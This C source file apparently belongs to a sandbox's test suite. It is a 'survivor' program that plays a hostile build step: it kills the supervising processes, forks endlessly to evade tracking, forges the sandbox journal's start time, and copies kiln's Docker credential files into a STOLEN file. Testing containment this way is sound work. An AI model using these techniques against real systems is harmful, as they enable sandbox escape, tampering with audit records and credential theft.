/* What a hostile step starts to outlive it: survivor ORDER MARK STOLEN
 *
 * Gives up a capability so that nobody knows it by those it has, takes a session of its own and two new parents, and
 * kills in the order given: `w` the process that watches over the step, `k` kiln, `p` kiln's parent. Then, for as long
 * as a minute, looks into kiln's credentials, and writes to the file STOLEN what it finds there. With an `h` at the end
 * nobody sees its root; with an `f` it is always another process, as fast as can be; with an `e` the step ends well; with a `z`
 * its first thread has ended; with a `c` it has another root; with a `j` it has written to the journal that the step begins later.
 *
 * survivor subreaper PROGRAM...: runs a program that adopts orphans, as the shell of a job may.
 */
#include <pthread.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "hostile.h"

#define JOURNAL "/kiln/store/kiln/sandbox/in-place.journal"

static char **arguments;

/* Says that the process that swaps was started in some years. */
static void forge_journal(void)
{
	static char text[1 << 20];
	int file = open(JOURNAL, O_RDONLY);
	ssize_t length = read(file, text, sizeof text - 1);
	char *begin, *end;

	close(file);
	if (length <= 0 || !(begin = strstr(text, "\"started\":")))
		return;
	begin += strlen("\"started\":");
	end = begin + strspn(begin, "0123456789");
	file = open(JOURNAL, O_WRONLY | O_TRUNC);
	write(file, text, begin - text);
	write(file, "9999999999999", 13);
	write(file, end, text + length - end);
	close(file);
}

/* The same from where its root is another: its directory is not. */
static void look(void)
{
	steal("kiln/.docker/config.json", arguments[2], arguments[3] + 1);
	steal("kiln/.d2/config.json", arguments[2], arguments[3] + 1);
}

static void *go_on(void *unused)
{
	for (int try = 0; try < 60000; try++) {
		look();
		usleep(1000);
	}
	exit(0);
}

int main(int count, char **words)
{
	int whose[256], try, is_fast;
	time_t end = time(NULL) + 60;

	if (count > 2 && !strcmp(words[1], "subreaper")) {
		prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0);
		prctl(PR_SET_NAME, "job", 0, 0, 0);
		if (fork() == 0)
			return execvp(words[2], words + 2);
		while (wait(NULL) > 0)
			;
		return 0;
	}
	if (count != 4)
		return 2;
	arguments = words;
	chdir("/");
	find_processes(whose);
	is_fast = strchr(words[1], 'f') != NULL;
	prctl(PR_CAPBSET_DROP, 0, 0, 0, 0);
	if (fork() > 0) {
		if (strchr(words[1], 'e'))
			usleep(200000);
		else
			pause();
		return 0;
	}
	setsid();
	if (fork() > 0)
		_exit(0);
	usleep(100000);
	if (strchr(words[1], 'j'))
		forge_journal();
	if (strchr(words[1], 'c'))
		chroot("/dev/shm");
	for (const char *whom = words[1]; *whom && strchr("wkp", *whom); whom++)
		kill(whose[(int)*whom], SIGKILL);
	if (strchr(words[1], 'h'))
		prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	if (strchr(words[1], 'z')) {
		pthread_t thread;

		pthread_create(&thread, NULL, go_on, NULL);
		syscall(SYS_exit, 0);
	}
	for (try = 0; try < (is_fast ? 6000000 : 60000) && time(NULL) < end; try++) {
		look();
		if (fork() > 0)
			_exit(0); /* always another process */
		setsid();
		if (!is_fast)
			usleep(1000);
	}
	return 0;
}
